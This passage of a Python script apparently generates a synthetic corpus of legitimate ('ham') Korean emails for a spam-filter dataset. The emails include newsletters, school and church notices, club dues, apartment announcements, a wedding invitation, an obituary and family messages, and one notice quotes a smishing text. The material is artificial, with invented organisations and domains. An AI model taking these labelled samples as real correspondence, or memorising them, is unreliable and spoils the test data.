<p>안녕하세요, 망원역 2번 출구 앞 숨필라테스입니다.<br>9월 한 달간 신규 회원님께 1:1 체험 레슨을 무료로 드려요.</p>
<p>· 그룹 레슨 10회 220,000원 → <b>189,000원</b><br>· 1:1 레슨 10회 550,000원 → <b>490,000원</b><br>· 체험 예약: 카카오톡 채널 "숨필라테스 망원" 또는 02-322-****</p>
<p style="font-size:12px;color:#999;">숨필라테스 | 대표 한소윤 | 서울 마포구 망원로 (생략) | 사업자번호 120-**-*****<br>
본 메일은 2026년 6월 체험 수업 신청 시 광고 수신에 동의하신 분께 발송됩니다. 더 이상 받지 않으시려면 <a href="https://stibee.com/api/v1.0/lists/unsubscribe/soompilates?e=yerin.seo">수신거부</a>를 눌러주세요.</p>
</div></body></html>
''')

# ---- newsletters ----------------------------------------------------------
M('ham', '시사 뉴스레터(뉴닉) 정기 발송 - 스티비, 긴 본문, 링크 다수',
  frm=('뉴닉 NEWNEEK', 'whatsup@newneek.co'), to=[YR], prov='stibee', when=(11, 16, 7, 0),
  list=dict(url='https://newneek.stibee.com/unsubscribe/f3c91a', post=True, id='<newneek.stibee.com>'),
  subj='🦔 금리 동결, 내 대출 이자는 어떻게 될까?',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="margin:0;background:#f5f0e6;">
<div style="max-width:600px;margin:0 auto;background:#fff;padding:28px;font-family:sans-serif;font-size:15px;line-height:1.8;color:#222;">
<p>구독자님, 월요일 아침이에요. 오늘 뉴닉은 👇</p>
<p>💰 금리 동결, 내 대출 이자는?<br>🏠 내년부터 달라지는 청약 제도<br>🌏 COP31, 올해는 뭐가 결정됐나</p>
<h3>💰 한국은행, 기준금리 또 동결</h3>
<p>한국은행이 기준금리를 연 2.25%로 동결했어요. 물가는 안정됐지만 가계부채와 환율이 여전히 부담이라는 이유예요. 변동금리로 주택담보대출을 받은 사람이라면 당분간 이자 부담이 크게 줄긴 어려울 것 같다는 전망이 나와요.</p>
<p><a href="https://newneek.co/@newneek/article/2026-1116-rate">더 읽어보기</a></p>
<h3>🏠 청약, 이렇게 바뀌어요</h3>
<p>내년부터 신생아 특례 청약의 소득 기준이 완화되고, 무주택 기간 산정 방식도 일부 바뀌어요. 나한테 해당되는지 체크리스트로 정리했어요.</p>
<p><a href="https://newneek.co/@newneek/article/2026-1116-housing">체크리스트 보기</a></p>
<hr><p style="font-size:12px;color:#888;">뉴닉은 구독자님이 직접 신청하신 뉴스레터예요. 그만 받고 싶다면 <a href="https://newneek.stibee.com/unsubscribe/f3c91a">구독 해지</a>.<br>(주)뉴닉 | 서울시 성동구 (생략)</p>
</div></body></html>
''')

M('ham', '경제신문 아침 뉴스레터 - 증시·부동산 헤드라인 (hankyung.com, EUC-KR)',
  frm=('한경 모닝브리핑', 'newsletter@hankyung.com'), to=[GS], prov='inhouse', cs='euc-kr', mailer='HK Newsletter',
  selector='hk', when=(10, 27, 6, 30),
  list=dict(url='https://www.hankyung.com/newsletter/unsubscribe?nid=morning&e=gskwon', mailto='newsletter@hankyung.com'),
  subj='[모닝브리핑] 코스피 3,100 회복할까 / 반도체 수출 13개월 연속 증가',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="640" align="center" style="font-family:'맑은 고딕';font-size:14px;line-height:1.7;">
<tr><td style="border-bottom:3px solid #003c7e;padding:10px 0;font-size:20px;"><b>한경 모닝브리핑</b> 2026.10.27(화)</td></tr>
<tr><td style="padding-top:12px;">
<b>■ 뉴욕증시</b> - 주요 지수 혼조 마감. 기술주 실적 발표 앞두고 관망세<br>
<b>■ 오늘의 관전 포인트</b> - 외국인 순매수 이어질지, 코스피 3,100선 회복 시도<br>
<b>■ 수출</b> - 10월 1~20일 반도체 수출 전년 대비 21% 증가, 13개월 연속 증가세<br>
<b>■ 부동산</b> - 서울 아파트 전셋값 주간 상승률 확대<br><br>
<a href="https://www.hankyung.com/newsletter/morning/20261027">전체 기사 보기</a>
</td></tr>
<tr><td style="font-size:11px;color:#888;padding-top:16px;">본 뉴스레터는 한경닷컴 회원 중 수신에 동의하신 분께 발송됩니다. <a href="https://www.hankyung.com/newsletter/unsubscribe?nid=morning&e=gskwon">수신거부</a></td></tr>
</table></body></html>
''')

M('ham', 'IT 실무 뉴스레터(요즘IT) 주간 발행 - 개발/기획 아티클 큐레이션',
  frm=('요즘IT', 'yozm@wishket.com'), to=[DY], prov='stibee', when=(11, 11, 8, 0),
  list=dict(url='https://yozm.stibee.com/unsubscribe/9d1e0b', post=True),
  subj='[요즘IT] LLM 에이전트 운영 1년, 실제로 남은 것들',
  html='''<html><head><meta charset="{CHARSET}"></head><body>
<div style="max-width:600px;margin:0 auto;font-family:sans-serif;font-size:15px;line-height:1.75;">
<p style="color:#5a44ff;font-weight:bold;">요즘IT 위클리 #312</p>
<p><b>1. LLM 에이전트 운영 1년, 실제로 남은 것들</b><br>사내 고객지원에 에이전트를 도입한 팀이 1년간 겪은 비용·품질 문제와 해결 과정을 정리했습니다.</p>
<p><b>2. 기획자를 위한 SQL 첫걸음</b><br>대시보드 없이도 데이터를 직접 확인할 수 있는 쿼리 10개.</p>
<p><b>3. 레거시 모놀리스 쪼개기, 어디서부터?</b><br>스트랭글러 패턴을 실제로 적용해 본 후기.</p>
<p><a href="https://yozm.wishket.com/magazine/weekly/312/">이번 주 아티클 전체 보기</a></p>
<p style="font-size:12px;color:#999;">(주)위시켓 | 수신을 원치 않으시면 <a href="https://yozm.stibee.com/unsubscribe/9d1e0b">구독 취소</a></p>
</div></body></html>
''')

M('ham', '개발자 커뮤니티 주간 다이제스트 (GeekNews, 평문 텍스트, 링크 나열)',
  frm=('GeekNews', 'weekly@hada.io'), to=[DY], prov='ses', fmt='plain', cte='8bit', when=(11, 23, 9, 0),
  list=dict(url='https://news.hada.io/weekly/unsubscribe?k=doyoon', mailto='weekly-unsubscribe@hada.io'),
  subj='GeekNews Weekly #336',
  text='''GeekNews Weekly #336 (2026-11-23)

이번 주에 가장 많이 읽힌 글들입니다.

1. SQLite 4.0 릴리스 노트 살펴보기
   https://news.hada.io/topic?id=24811
2. "우리는 왜 쿠버네티스를 걷어냈나" - 스타트업 인프라 회고
   https://news.hada.io/topic?id=24790
3. 브라우저에서 돌아가는 로컬 LLM, 어디까지 왔나
   https://news.hada.io/topic?id=24803
4. 개인정보 보호법 개정안이 개발자에게 미치는 영향 정리
   https://news.hada.io/topic?id=24777
5. Show GN: 한글 맞춤법 검사기를 Rust로 다시 만들었습니다
   https://news.hada.io/topic?id=24822

좋은 글을 공유해 주신 분들께 감사드립니다.
구독 해지: https://news.hada.io/weekly/unsubscribe?k=doyoon
''')

M('ham', '디자인 업계 협회의 회원 소식지 - 연회비 납부 안내 포함 (invented 협회, EUC-KR, QP)',
  frm=('한국시각디자인협회 사무국', 'office@kvda-assoc.example'), to=[JY], prov='groupware', cs='euc-kr',
  cte='quoted-printable', dkim=False, when=(10, 6, 10, 0),
  subj='[KVDA 회원소식] 10월호 - 공모전 결과, 연회비 납부 안내',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<div style="width:620px;font-family:'맑은 고딕';font-size:13px;line-height:1.8;">
<p style="font-size:17px;"><b>KVDA 회원소식 2026년 10월호</b></p>
<p>1. <b>제18회 대한민국 시각디자인 공모전 결과 발표</b><br>대상 포함 42개 작품이 선정되었습니다. 시상식은 11월 7일(토) 협회 세미나실에서 열립니다.</p>
<p>2. <b>회원 대상 저작권 실무 세미나</b><br>일시 10월 22일(목) 19시 / 온라인(Zoom) / 회원 무료</p>
<p>3. <b>2027년도 연회비 납부 안내</b><br>정회원 연회비 120,000원(법인회원 300,000원)을 12월 31일까지 협회 계좌로 납부해 주시기 바랍니다.<br>
입금 시 입금자명을 <u>회원명(회원번호)</u>으로 해 주시면 확인이 빠릅니다. 계좌번호는 협회 홈페이지 공지사항을 참고해 주세요.</p>
<p style="font-size:11px;color:#777;">한국시각디자인협회 사무국 | 02-744-**** | 소식지 수신을 원치 않으시면 회신으로 알려주세요.</p>
</div></body></html>
''')

M('ham', '대학 동문회 소식지와 정기총회 안내 - 회비 계좌 안내 포함 (invented 동문회, daum)',
  frm=('한국대 경영학과 동문회', 'hkbiz_alumni@daum.net'), to=[GS], prov='daum', cs='euc-kr', when=(11, 10, 20, 10),
  subj='[동문회보 제42호] 2026 정기총회 및 송년의 밤 안내',
  text='''동문 여러분 안녕하십니까.
한국대학교 경영학과 동문회 사무국입니다.

올 한 해도 동문 여러분의 관심과 성원에 감사드리며
2026년 정기총회 및 송년의 밤을 아래와 같이 개최합니다.

  ■ 일시 : 2026년 12월 5일(토) 오후 6시
  ■ 장소 : 서울 중구 더플라자호텔 4층 (시청역 6번 출구)
  ■ 회비 : 1인 70,000원 (94학번 이후 50,000원, 재학생 무료)
  ■ 주요 안건 : 2026 결산 보고, 차기 회장 선출, 장학금 전달식

참석 회신은 11월 28일까지 각 기수 대표 또는 사무국(010-5531-****)으로 부탁드립니다.
회비는 당일 현장 납부 또는 동문회 공식 계좌(신한 110-***-******, 예금주 한국대경영동문회)로
미리 보내주셔도 됩니다.

[동문 소식]
- 87학번 김OO 동문, (주)OO전자 대표이사 취임
- 03학번 이OO 동문, 공인회계사 개업
- 장학기금 모금 현황 : 3,420만원 (목표 5,000만원)

사무국장 유지훈 올림
''')

# ---- school / parents -----------------------------------------------------
M('ham', '초등학교 가정통신문 - 겨울방학 방과후학교 수강 신청 (HWP 첨부, invented 학교 도메인)',
  frm=('망원초등학교', 'admin@mangwon-es.example'), to=[YR], prov='inhouse', cs='euc-kr', mailer=None, dkim=False,
  out_host='mail.mangwon-es.example', when=(11, 25, 15, 0),
  subj='[가정통신문] 2026학년도 겨울방학 방과후학교 운영 및 수강 신청 안내',
  text='''학부모님 안녕하십니까?

2026학년도 겨울방학 방과후학교를 아래와 같이 운영하고자 하오니
자녀가 희망하는 강좌를 신청하여 주시기 바랍니다.

1. 운영 기간 : 2027. 1. 5.(화) ~ 1. 29.(금) (4주, 주 4회)
2. 신청 기간 : 2026. 11. 30.(월) ~ 12. 4.(금)
3. 신청 방법 : 학교 누리집 또는 e알리미 앱 설문으로 신청
4. 수강료 : 강좌별 상이(첨부 참고), 스쿨뱅킹 계좌에서 자동 출금
   ※ 교육급여 수급자 및 차상위 가정은 자유수강권으로 무료 수강 가능

학교에서는 문자나 개인 계좌로 수강료 입금을 요청하지 않습니다.
자세한 강좌 내용은 첨부 파일을 참고하여 주시기 바랍니다.

2026. 11. 25.
망원초등학교장
''',
  atts=[HWP('2026_겨울방학_방과후학교_안내.hwp', ['2026학년도 겨울방학 방과후학교 강좌 안내', '로봇코딩 1~3학년', '음악줄넘기', '창의미술'])])

M('ham', '초등 학부모회 임원이 반 학부모들에게 담임 선생님 선물 대신 학급 간식비 모금 안내 (naver, 회비/계좌)',
  frm=('3학년2반 학부모회 윤지아맘', 'jia_mom0412@naver.com'), to='3학년2반 학부모님들:;', rcpt='yerin.seo@haneul-mail.test',
  prov='naver', when=(10, 14, 21, 33),
  subj='[3-2 학부모회] 학급 체험학습 간식비 안내 드려요',
  text='''3학년 2반 학부모님들 안녕하세요~
학부모회 반대표 지아 엄마입니다.

다음 주 목요일(10/22) 서울숲 체험학습 날 아이들 간식을 반에서 같이 준비하기로 해서 안내드려요.
(청탁금지법 때문에 선생님 선물은 따로 안 하고, 아이들 간식만 준비합니다!)

- 간식: 개별 포장 과자, 음료, 귤
- 금액: 가정당 5,000원
- 입금: 10/19(월)까지
- 계좌: 반톡 공지에 올려둔 제 계좌로 보내주세요 (입금자명: 아이 이름)

사용 내역은 영수증 사진이랑 같이 반톡에 올려 드릴게요.
알레르기 있는 아이는 저한테 따로 말씀해 주시면 따로 챙기겠습니다 :)

감사합니다!
''')

M('ham', '유치원이 현장학습 참가 동의서(HWP)와 준비물을 안내 (daum, EUC-KR)',
  frm=('해바라기유치원', 'sunflower_kinder@hanmail.net'), to=[YR], prov='daum', cs='euc-kr', when=(9, 22, 16, 45),
  subj='[해바라기유치원] 10월 가을 현장학습 동의서 제출 안내',
  text='''해바라기유치원 학부모님께

선선한 가을을 맞아 아래와 같이 현장학습을 계획하였습니다.

  일시 : 10월 8일(목) 09:30 ~ 14:00
  장소 : 양주 OO농장 (고구마 캐기 체험)
  이동 : 전세버스 (안전띠 착용 지도, 인솔교사 반별 2인)
  준비물 : 여벌 옷, 개인 물통, 모자, 작은 장갑
  비용 : 체험비 및 차량비는 특별활동비에 포함되어 별도 납부 없음

첨부한 현장학습 참가 동의서를 작성하시어 10월 2일(금)까지
아이 가방에 넣어 보내주시거나 키즈노트에 사진으로 올려 주세요.

감사합니다.
해바라기유치원 원장 드림
''',
  atts=[HWP('현장학습_참가동의서.hwp', ['현장학습 참가 동의서', '원아명', '보호자 연락처', '알레르기 및 특이사항'])])

M('ham', '학원이 학부모에게 12월 수강료 청구와 결제 방법 안내 (학원 도메인, 결제선생 링크)',
  frm=HR, to=[PM], prov='hiworks', cs='UTF-8', when=(11, 26, 14, 0),
  subj='[미래에듀] 12월 수강료 안내 (서준 학생)',
  text='''서준 어머님 안녕하세요, 미래에듀입니다.

12월 수강료를 아래와 같이 안내드립니다.

- 중2 수학 정규반 (주 3회) : 360,000원
- 겨울방학 특강 (12/28~) : 120,000원 (신청하신 경우)
- 교재비 : 18,000원 (개념원리 중2-2)
합계 : 498,000원

결제는 학원 방문 카드결제 또는 문자로 발송되는 "결제선생" 청구서 링크로 해주시면 됩니다.
교육청 신고 수강료 기준이며 영수증은 현금영수증으로 자동 발행됩니다.
(학원 공식 청구서 외에 개인 계좌로 입금 요청을 드리는 일은 없습니다.)

서준이가 이번 달 단원평가에서 많이 좋아졌어요. 겨울방학 때 선행 진도 상담도 한 번 하시면 좋겠습니다.

미래에듀 원장 신혜린 드림
''')

M('ham', '대학 학과 사무실이 재학생에게 교내 장학금 신청 안내 (invented 대학 도메인, Outlook)',
  frm=('한밭대학교 경영학과 사무실', 'biz_office@hanbat-uni.test'), to=[('장서윤', 'seoyun.jang@haneul-mail.test')],
  prov='outlook', when=(11, 2, 11, 20),
  subj='[경영학과] 2027-1학기 교내 장학금(가계곤란·성적우수) 신청 안내',
  text='''경영학과 재학생 여러분께,

2027학년도 1학기 교내 장학금 신청을 아래와 같이 안내합니다.

1. 신청기간 : 2026. 11. 9.(월) ~ 11. 20.(금) 17:00
2. 신청방법 : 통합정보시스템 로그인 > 장학 > 교내장학금 신청
3. 대상 : 직전 학기 12학점 이상 이수, 평점 3.0 이상
4. 제출서류 : 가계곤란 장학은 한국장학재단 소득구간 산정 결과로 대체

※ 학과 사무실이나 학교는 장학금 지급을 이유로 수수료를 요구하거나
   계좌 비밀번호, 공인인증서(공동인증서) 정보를 묻지 않습니다.

문의 : 경영학과 사무실 (042-821-****, 평일 9~17시)
''')

# ---- church / club / alumni ----------------------------------------------
M('ham', '교회 청년부 겨울 수련회 등록 및 회비 입금 안내 (gmail, 교회 공식 도메인으로 수신)',
  frm=('빛가람교회 청년부', 'bitgaram.youth@gmail.com'), to=[('청년부', 'youth@bitgaram-church.test')],
  rcpt='youth@bitgaram-church.test', prov='gmail', when=(11, 22, 22, 10),
  subj='[청년부] 2027 겨울수련회 등록 안내 (얼리버드 12/6까지)',
  text='''사랑하는 청년부 여러분 안녕하세요!
2027 겨울수련회 등록을 시작합니다 🙌

주제: "다시, 처음 사랑으로" (요한계시록 2:4)
일시: 2027년 1월 14일(목) ~ 16일(토), 2박 3일
장소: 가평 OO수양관 (교회에서 전세버스 출발)

회비
- 얼리버드 (12/6까지): 120,000원
- 일반 (12/7~12/27): 140,000원
- 부분 참석: 1일 60,000원

등록은 구글폼 작성 후 회비 입금하시면 완료됩니다.
구글폼: https://forms.gle/bitgarayouth2027
입금 계좌: 교회 청년부 회계 계좌 (주보 광고란 참고, 예금주 빛가람교회)

형편상 회비가 부담되는 분은 회장이나 담당 목사님께 편하게 말씀해 주세요.
장학 지원이 준비되어 있습니다. 함께 가요!

청년부 회장 김하은 드림
''')

M('ham', '산악회 정기산행 공지, 버스 좌석·회비·준비물 안내 (daum, EUC-KR, 어르신 문체)',
  frm=('푸른솔산악회 총무', 'pureunsol_san@hanmail.net'), to=[GS], prov='daum', cs='euc-kr', when=(10, 20, 6, 48),
  subj='푸른솔산악회 11월 정기산행 (월악산) 공지',
  text='''회원님들 안녕하십니까
푸른솔산악회 총무 배상규입니다

11월 정기산행 안내 드립니다

  일시 : 11월 8일 (일요일)
  산행지 : 월악산 (덕주사 - 영봉 - 보덕암, 약 6시간)
  출발 : 오전 6시 30분 합정역 8번출구 앞 (6시 20분까지 꼭 오세요)
  회비 : 45,000원 (버스, 아침 떡, 하산주 포함)
  준비물 : 점심 도시락, 물, 방한복, 아이젠 (능선 결빙 가능), 헤드랜턴

버스 좌석이 40석이라 선착순입니다
참석하실 분은 11월 4일까지 총무에게 문자 주시고
회비는 당일 버스에서 걷겠습니다

지난달 산행 사진은 밴드에 올려 놓았습니다
환절기 감기 조심하십시오

총무 배상규 010-4417-****
''')

M('ham', '고교 동창 송년회 공지 - 회비 계좌, 장소 지도 링크 (naver, 친근한 반말)',
  frm=('정동민', 'dongmin_j79@naver.com'), to=[GS, ('한승우', 'swhan@hanbit-tech.example'), ('김태호', 'taeho.k@daehan-law.example')],
  prov='naver', when=(11, 15, 23, 5),
  subj='[동명고 98회] 올해 송년회 12/12(토) 확정!',
  text='''야들아 동민이다

올해 송년회 날짜 확정됐다. 투표 결과 12월 12일 토요일로 정함.

시간: 저녁 6시 반
장소: 신촌 "옛날통닭 2호점" 지하 단체석 (작년이랑 같은 데)
지도: https://naver.me/5kTrQx2a
회비: 5만원 (남으면 다음 모임 때 씀)

회비는 12/10까지 나한테 보내주면 되고 계좌는 단톡방 공지에 있음.
작년에 안 온 놈들 올해는 꼭 와라. 특히 태호 변호사님 바쁘신 거 알지만 ㅋㅋ

참석 여부 단톡에 댓글로 남겨주라
''')

M('ham', '독서모임 운영진이 다음 모임 책·장소와 참가비를 안내 (gmail, 다정한 톤)',
  frm=('느린 오후 독서모임', 'slow.afternoon.book@gmail.com'), to=[YR, PM, ('오나래', 'narae.oh@hanul-design.test')],
  prov='gmail', when=(10, 28, 20, 30),
  subj='[느린 오후] 11월 모임 안내 - 『이처럼 사소한 것들』',
  text='''느린 오후 멤버분들, 안녕하세요.

10월 모임 때 다들 늦게까지 이야기 나눠 주셔서 즐거웠어요.
11월 모임 안내드립니다.

📚 책: 클레어 키건, 『이처럼 사소한 것들』
📅 일시: 11월 21일(토) 오후 3시 ~ 5시
📍 장소: 망원동 "책방 온기" 2층 (이번에도 사장님이 공간을 내주셨어요)
☕ 참가비: 1인 8,000원 (음료 포함, 현장에서 사장님께 결제)

발제는 나래님이 맡아 주셨어요. 읽으면서 마음에 남은 문장 하나씩 준비해 오세요.
못 오시는 분은 목요일까지만 알려주세요!

운영진 드림
''')

M('ham', '조기축구회 총무가 3분기 회비 정산 내역(XLSX)을 공유 (naver)',
  frm=('FC망원 총무 안재민', 'fcmangwon_money@naver.com'), to='FC망원 회원:;', rcpt='hwryu@haneul-mail.test',
  prov='naver', when=(10, 4, 10, 40),
  subj='FC망원 3분기(7~9월) 회비 정산 내역 공유합니다',
  text='''FC망원 회원님들 총무 안재민입니다.

3분기 회비 정산 내역 첨부합니다.

- 이월금: 412,000원
- 회비 수입: 1,320,000원 (월 2만원 x 22명 x 3개월, 미납 2명 제외)
- 지출: 구장 대관료 960,000원 / 공·조끼 구입 148,000원 / 회식 보조 200,000원
- 잔액: 424,000원

미납하신 두 분은 개별로 연락드렸습니다.
4분기 회비도 기존 회비 통장으로 매월 10일까지 부탁드려요.

다음 주 일요일 오전 7시 망원한강공원 구장에서 뵙겠습니다!
''',
  atts=[XLSX('FC망원_2026_3분기_회비정산.xlsx', [['월', '수입', '지출', '내용'], ['7월', 440000, 320000, '구장 대관 4회'],
                                              ['8월', 440000, 468000, '구장 대관 4회, 공 5개, 조끼'],
                                              ['9월', 440000, 520000, '구장 대관 4회, 회식 보조'], ['잔액', '', '', 424000]])])

M('ham', '성당 본당 사무실의 성탄 전례 봉사자 모집과 판공성사 일정 안내 (EUC-KR, Outlook)',
  frm=('망원동성당 사무실', 'office@mangwon-catholic.example'), to=[PM], prov='outlook', cs='euc-kr', dkim=False,
  when=(11, 27, 13, 30),
  subj='[망원동성당] 대림·성탄 판공성사 일정 및 성탄 전례 봉사자 모집',
  text='''찬미 예수님!

대림 시기를 맞아 판공성사 일정과 성탄 전례 봉사자 모집을 안내드립니다.

1. 판공성사
   - 12월 13일(주일) ~ 12월 20일(주일), 각 미사 전후 30분
   - 12월 17일(목) 저녁 8시 공동 참회 예절 (외부 사제 4분 초빙)

2. 성탄 전례 봉사자 모집
   - 성탄 전야 미사 안내·헌금 봉사 10명, 성가대 객원 단원 8명
   - 신청: 사무실 방문 또는 전화 (02-336-****)

3. 성탄 꽃꽂이 봉헌
   - 봉헌을 원하시는 분은 12월 20일까지 사무실에 말씀해 주세요.
   - 봉헌금은 사무실에서 직접 받습니다. (개인 계좌로 받지 않습니다)

평화를 빕니다.
망원동성당 사무실
''')

# ---- apartment ------------------------------------------------------------
M('ham', '아파트 관리사무소의 11월 관리비 고지와 승강기 정기점검 일정 안내 (daum, EUC-KR)',
  frm=('망원그린빌 관리사무소', 'greenvill_mgmt@daum.net'), to=[PM], prov='daum', cs='euc-kr', when=(11, 24, 17, 20),
  subj='[망원그린빌] 11월 관리비 고지 및 승강기 정기점검 안내',
  text='''망원그린빌 입주민 여러분께 알려드립니다.

1. 11월분 관리비 고지
   - 고지서는 우편함 및 아파트아이 앱에서 확인하실 수 있습니다.
   - 납부기한 : 12월 10일 (자동이체 세대는 10일 출금)
   - 세대 평균 관리비 : 248,600원 (난방비 증가로 전월 대비 약 3만원 증가)

2. 승강기 정기점검
   - 101동 : 12월 1일(화) 10:00 ~ 12:00
   - 102동 : 12월 1일(화) 14:00 ~ 16:00
   - 점검 시간 동안 해당 동 승강기 운행이 중지되오니 양해 부탁드립니다.

3. 동파 예방
   - 한파 예보 시 세탁실 수도를 조금 틀어 두시고, 보일러는 외출 모드로 유지해 주세요.

망원그린빌 관리사무소 (02-325-****)
''')

M('ham', '아파트 입주자대표회의 동대표 선거 공고 - 후보 등록 서류(HWP) 첨부',
  frm=('망원그린빌 선거관리위원회', 'greenvill_mgmt@daum.net'), to=[YR], prov='daum', cs='euc-kr', when=(10, 15, 10, 0),
  subj='[공고] 제7기 입주자대표회의 동별 대표자 선출 공고',
  text='''망원그린빌 선거관리위원회 공고 제2026-3호

공동주택관리법 시행령 제11조에 따라 제7기 입주자대표회의 동별 대표자 선출을 아래와 같이 공고합니다.

  가. 선출 인원 : 동별 대표자 각 1명 (101동, 102동, 103동)
  나. 후보자 등록 기간 : 2026. 10. 19.(월) ~ 10. 23.(금) 09:00 ~ 18:00
  다. 등록 장소 : 관리사무소 2층 선거관리위원회
  라. 제출 서류 : 후보자 등록 신청서, 주민등록표 등본, 범죄경력회보서 동의서 등 (첨부 양식 참조)
  마. 투표일 : 2026. 11. 7.(토) 10:00 ~ 18:00 / 온라인 투표 병행

입주민 여러분의 많은 관심과 참여 부탁드립니다.

2026년 10월 15일
망원그린빌 선거관리위원장
''',
  atts=[HWP('제7기_동대표_후보자등록신청서.hwp', ['동별 대표자 후보자 등록 신청서', '성명', '동호수', '약력', '선거공약'])])

M('ham', '관리사무소의 단수 안내와 함께 "관리비 환급" 사칭 문자 주의 당부 (스미싱 문구 인용)',
  frm=('망원그린빌 관리사무소', 'greenvill_mgmt@daum.net'), to=[GS], prov='daum', cs='UTF-8', when=(9, 16, 9, 5),
  subj='[긴급] 9/18(금) 저수조 청소로 인한 단수 및 사칭 문자 주의',
  text='''입주민 여러분께 알려드립니다.

1. 단수 안내
   저수조 정기 청소로 9월 18일(금) 오전 9시부터 오후 3시까지 전 세대 단수됩니다.
   미리 생활용수를 받아 두시기 바랍니다.

2. 관리비 환급 사칭 문자 주의
   최근 일부 세대에 아래와 같은 문자가 수신되었다는 신고가 있었습니다.

   "[망원그린빌] 관리비 과오납 환급 대상 세대입니다. 환급 신청: http://(생략)"

   관리사무소는 이런 문자를 보낸 적이 없습니다.
   관리비 환급은 다음 달 고지서에서 차감되며, 링크나 계좌 입력을 요구하지 않습니다.
   문자의 링크를 누르지 마시고 받으신 분은 118(한국인터넷진흥원)에 신고해 주세요.

망원그린빌 관리사무소
''')


# ===========================================================================
# HAM - family & friends, jobs, security alerts, events
# ===========================================================================
M('ham', '친구 결혼 청첩장 - 모바일 청첩장 링크와 마음 전하실 곳(계좌) 포함 (naver)',
  frm=('유다은', 'daeun_yoo92@naver.com'), to=[YR], prov='naver', when=(9, 28, 20, 12),
  subj='예린아 나 결혼해!! 💍 청첩장 보내',
  text='''예린아 안녕~ 나 다은이!

드디어... 나 결혼한다 ㅎㅎ 11월 21일 토요일 낮 12시 30분이야.
요즘 너무 정신없어서 직접 못 만나고 메일이랑 카톡으로 먼저 보내서 미안해 ㅠㅠ
다음 주에 밥 한번 먹으면서 종이 청첩장 줄게!

모바일 청첩장: https://m.barunsoncard.com/m/daeun-jihoon1121

장소: 더채플앳청담 3층 (7호선 청담역 도보 7분, 주차 2시간 무료)

멀리서 못 오는 친구들이 계좌 물어봐서 청첩장 맨 아래에 마음 전하실 곳도 넣어뒀어.
너는 그냥 와서 밥만 맛있게 먹고 가면 돼!! 꼭 와줘~~

다은
''')

M('ham', '부친상 부고 메일 - 빈소·발인 일정과 조의금 계좌를 담은 정상 부고 (daum, EUC-KR)',
  frm=('최영호', 'yhchoi_0714@daum.net'), to=[GS, ('한승우', 'swhan@hanbit-tech.example')], prov='daum', cs='euc-kr',
  when=(10, 9, 6, 40),
  subj='[부고] 최영호 부친상',
  text='''삼가 알려드립니다.

저의 부친 故 최상덕 님께서 2026년 10월 8일 오후 11시,
향년 84세를 일기로 별세하셨기에 삼가 알려드립니다.

  빈소 : 서울성모병원 장례식장 11호실 (서초구 반포대로 222)
  발인 : 2026년 10월 11일(일) 오전 7시
  장지 : 용인 평온의 숲

  상주 : 최영호, 최영수
  연락처 : 010-3392-****

경황이 없어 일일이 연락드리지 못함을 널리 양해 바랍니다.
멀리 계셔서 조문이 어려우신 분들은 마음만으로도 감사히 받겠습니다.
(부의금 계좌 : 국민은행 최영호, 계좌번호는 문자로 따로 보내드렸습니다)

최영호 올림
''')

M('ham', '엄마가 딸에게 추석 가족 사진 구글 포토 공유 링크를 보내는 메일 (gmail, 맞춤법 느슨)',
  frm=('엄마', 'jang.soonja58@gmail.com'), to=[YR], prov='gmail', when=(10, 7, 8, 22),
  subj='추석때 찍은 사진 보내',
  text='''예린아 엄마야
추석때 찍은 사진 아빠가 정리해서 구글 사진첩에 올렸대
아래 누르면 볼수있다고 하네
https://photos.app.goo.gl/Lk3sQm8vTw2RbN5x9

할머니 사진 잘나온거 몇장 뽑아서 액자 할려고 하는데
너가 보고 괜찮은거 골라서 번호 알려줘
그리고 올라가서 밥 잘 챙겨먹고 감기 조심하고

엄마가
''')

M('ham', '아버지가 자녀들에게 김장 날짜를 알리는 짧은 메일 (daum, EUC-KR, 투박한 문체)',
  frm=('서정길', 'seo_jg1955@hanmail.net'), to=[YR, ('서민재', 'minjae.seo@hanbit-tech.example')], prov='daum', cs='euc-kr',
  cte='8bit', when=(11, 8, 6, 15),
  subj='김장 날짜',
  text='''민재 예린이 보아라

올해 김장은 11월 28일 토요일로 정했다
배추는 강원도 외삼촌네서 80포기 받기로 했다
금요일 저녁에 내려올수 있으면 내려오고
힘들면 토요일 아침 일찍 와라
김치통 빈거 있으면 가지고 오고

아버지
''')

M('ham', '동생이 가족여행 숙소 예약 확인서(PDF)와 1인 분담금을 공유 (gmail)',
  frm=('서민재', 'minjae.seo87@gmail.com'), to=[YR], cc=[('엄마', 'soonja.jang@haneul-mail.test')], prov='gmail', when=(11, 3, 23, 41),
  subj='12월 제주 가족여행 숙소 예약했어 (확인서 첨부)',
  text='''누나, 엄마

12월 제주 여행 숙소 예약했어. 확인서 첨부할게.

- 숙소: 애월 독채 펜션 (방 3개, 4박)
- 체크인: 12/26(토) 16시 / 체크아웃: 12/30(수) 11시
- 총액: 1,280,000원 (내가 카드로 먼저 결제함)

부모님 몫은 우리가 나눠서 내기로 했으니까
누나랑 나랑 각 64만원씩이야. 누나는 편할 때 나한테 보내줘.
비행기는 엄마아빠 거까지 내가 이번 주에 끊을게.

렌터카는 누나가 알아봐 줄 수 있어? SUV 한 대면 될 듯.

민재
''',
  atts=[PDF('숙소예약확인서_애월독채_1226-1230.pdf', ['Booking Confirmation', 'Aewol private stay', 'Check-in 2026-12-26 16:00',
                                                      'Check-out 2026-12-30 11:00', 'Total KRW 1,280,000 (paid)'])])

M('ham', '조카 돌잔치 초대 메일 - 장소 안내와 참석 회신 요청 (kakao 메일, UTF-8 HTML)',
  frm=('김수현', 'suhyun.kim0305@kakao.com'), to=[PM, YR], prov='kakao', when=(10, 18, 13, 10),
  subj='[초대] 우리 하온이 첫 생일에 초대합니다 🎂',
  html='''<div style="font-family:sans-serif;font-size:15px;line-height:1.8;text-align:center;color:#444;">
<p style="font-size:20px;">하온이의 첫 번째 생일</p>
<p>작고 여렸던 하온이가 어느덧 첫 돌을 맞이했습니다.<br>
가족들과 소박하게 식사 자리를 마련했으니<br>오셔서 축복해 주시면 감사하겠습니다.</p>
<p><b>2026년 11월 14일 토요일 낮 12시</b><br>마포 가든호텔 2층 "라일락홀"</p>
<p>주차는 호텔 지하 주차장 2시간 무료예요.<br>참석 여부는 이번 주 안에 답장 부탁드려요 :)</p>
<p>하온 아빠 엄마 김수현 · 이나영 드림</p>
</div>
''')

